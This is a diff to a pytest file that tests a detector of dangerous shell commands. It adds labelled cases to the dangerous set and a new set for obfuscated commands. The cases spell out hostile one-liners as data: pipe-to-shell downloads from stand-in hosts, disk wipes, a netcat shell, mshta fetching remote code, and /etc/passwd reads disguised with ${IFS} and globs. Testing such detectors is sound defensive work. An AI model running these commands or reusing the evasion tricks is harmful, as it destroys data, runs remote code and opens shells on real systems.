@@ -17,14 +17,25 @@ DANGEROUS = {
     "rm -rf /": True, "rm -fr ~/": True, "sudo rm -r -f /": True, "wget -O- x.example|sh": True,
     "bash <(curl -s x.example)": True, "dd if=x of=/dev/sda": True, "nc 10.0.0.1 99 -e sh": True,
     "rm -rf ./build": False, "rm notes.txt": False, "curl x.example | jq .": False,
-    "dd if=/dev/zero of=disk.img": False,
+    "dd if=/dev/zero of=disk.img": False, "IEX (iwr http://a.example/p)": True,
+    "python3 -c 'import pty; pty.spawn(\"sh\")'": True, "mshta http://a.example/x.hta": True,
+    "Invoke-WebRequest http://a.example -OutFile x": False,
+}  # fmt: skip
+DECODES = {
+    "cat${IFS}/etc/passwd${IFS}x": True, "/b?n/c?t /etc/hosts": True,
+    "powershell -nop -enc SQBFAFgA": True, "echo $IFS": False, "ls /bin/c*": False,
 }  # fmt: skip
 
 
 @pytest.mark.parametrize(
     ("pattern", "cases"),
-    [(words.SENSITIVE_READ, READ), (words.SENSITIVE_WRITE, WRITE), (words.DANGEROUS, DANGEROUS)],
-    ids=["read", "write", "dangerous"],
+    [
+        (words.SENSITIVE_READ, READ),
+        (words.SENSITIVE_WRITE, WRITE),
+        (words.DANGEROUS, DANGEROUS),
+        (words.DECODES, DECODES),
+    ],
+    ids=["read", "write", "dangerous", "decodes"],
 )
 def test_what_is_meant_and_its_near_misses(pattern: object, cases: dict[str, bool]) -> None:
     """All of them are told, not only the first."""
